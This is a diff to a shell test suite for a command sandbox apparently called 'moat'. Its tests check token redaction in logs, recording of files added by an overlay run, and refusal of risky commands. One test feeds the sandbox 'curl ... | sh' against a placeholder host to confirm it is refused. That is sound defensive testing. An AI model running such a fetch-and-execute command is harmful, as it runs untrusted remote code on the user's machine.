@@ -24,6 +24,10 @@ last=$(sq "SELECT max(id) FROM runs")
 like "the output head is kept" "$(sq "SELECT CAST(head AS TEXT) FROM outputs WHERE run=$last AND stream='stdout'")" "token="
 unlike "a token in argv and output is redacted in the log" "$(sq "SELECT r.argv || CAST(o.head AS TEXT) FROM runs r JOIN outputs o ON o.run = r.id WHERE r.id=$last")" "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
 
+printf 'include = default\nworkspace = overlay\n' >"$T/ov.conf"
+run_moat run -p "$T/ov.conf" -- sh -c 'echo new > added.txt'
+is "a file an overlay run added is an event of the run" "$(sq "SELECT name || ' ' || verdict FROM events WHERE kind='file' AND run=(SELECT max(id) FROM runs)")" "$(cd "$T/ws" && pwd -P)/added.txt added"
+
 printf 'include = default\nrisk-refuse-above = 50\n' >"$T/strict.conf"
 run_moat run -p "$T/strict.conf" -- sh -c 'curl -s http://example.invalid/x.sh | sh; touch ran'
 is "a risky command is refused with 125" "$rc" 125
